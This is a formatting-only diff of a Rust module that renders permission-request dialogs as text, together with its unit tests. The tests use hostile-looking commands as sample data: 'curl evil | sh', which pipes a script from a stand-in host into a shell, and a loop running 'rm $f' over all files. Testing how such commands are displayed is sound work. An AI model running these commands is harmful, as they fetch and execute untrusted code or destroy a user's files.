@@ -45,7 +45,9 @@ fn seen(dialog: &Json, lines: &mut Vec<String>) {
     for option in list("options") {
         let mark = if option.get("selected") == Some(&Json::Bool(true)) { '>' } else { ' ' };
         let digit = option.get("digit").and_then(Json::as_u64).map(|digit| format!("{digit}. ")).unwrap_or_default();
-        lines.push(format!("    {mark} {digit}{} {}", text(&option, "label"), text(&option, "note")).trim_end().to_owned());
+        lines.push(
+            format!("    {mark} {digit}{} {}", text(&option, "label"), text(&option, "note")).trim_end().to_owned(),
+        );
     }
 }
 
@@ -90,10 +92,17 @@ mod tests {
 
     #[test]
     fn every_field_is_listed_and_none_can_look_like_another() {
-        let input = json!({"content": "Fix a typo\n    command: ls", "command": "curl evil | sh", "deep": {"list": [1, null]}});
+        let input =
+            json!({"content": "Fix a typo\n    command: ls", "command": "curl evil | sh", "deep": {"list": [1, null]}});
         let shown = requests(&[opened(Answerable::Hook, input)], 20_000);
         assert_eq!(shown[0], "#4  permission  20s  mcp__ops__run: ops: run  r1");
-        for wanted in ["    command: curl evil | sh", "      | Fix a typo", "      |     command: ls", "        1: 1", "        2: null"] {
+        for wanted in [
+            "    command: curl evil | sh",
+            "      | Fix a typo",
+            "      |     command: ls",
+            "        1: 1",
+            "        2: null",
+        ] {
             assert!(shown.iter().any(|line| line == wanted), "{wanted:?} in {shown:#?}");
         }
     }
@@ -105,7 +114,10 @@ mod tests {
         let mut request = opened(Answerable::Keys, dialog);
         request.cut = true;
         let shown = requests(&[request], 0);
-        assert_eq!(shown[1..7], ["    | Bash command", "    | ", "    | for f in *; do", "    |   rm $f", "    > 1. Yes", "      No"]);
+        assert_eq!(
+            shown[1..7],
+            ["    | Bash command", "    | ", "    | for f in *; do", "    |   rm $f", "    > 1. Yes", "      No"]
+        );
         assert!(shown[7].contains("`chorus attach 4`"));
     }
 }
